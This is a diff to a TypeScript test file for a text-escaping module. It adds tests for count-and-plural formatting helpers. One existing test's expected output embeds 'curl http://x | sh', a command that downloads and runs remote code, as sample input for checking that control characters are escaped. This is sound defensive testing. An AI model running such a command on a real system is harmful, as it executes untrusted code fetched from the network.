@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 import { expect, it, test } from 'vitest'
-import { linePrinter, shown, shownLines } from '../src/shown-text.ts'
+import { counted, linePrinter, n, shown, shownLines } from '../src/shown-text.ts'
 
 test.each([
   ['C0', '\u0000\u0007\b\u001b[2J', '\\u0000\\u0007\\u0008\\u001b[2J'],
@@ -36,4 +36,17 @@ it('prints each line as one, whatever it holds, and writes it at once', () => {
   print([])
   expect(written).toEqual(['a.csv\\nNext\n    curl http://x | sh\\u001b[A\n', 'one\n'])
   expect(shownLines('usage:\n\u001b')).toBe('usage:\n\\u001b')
+})
+
+it.each([
+  [0, '0 rows'],
+  [1, '1 row'],
+  [1_234_567, '1,234,567 rows'],
+])('words %d rows', (count, words) => {
+  expect(counted(count, 'row')).toBe(words)
+  expect(n(count)).toBe(words.split(' ')[0])
+})
+
+it('takes a plural that is not made by an s', () => {
+  expect([1, 2].map((count) => counted(count, 'entry', 'entries'))).toEqual(['1 entry', '2 entries'])
 })
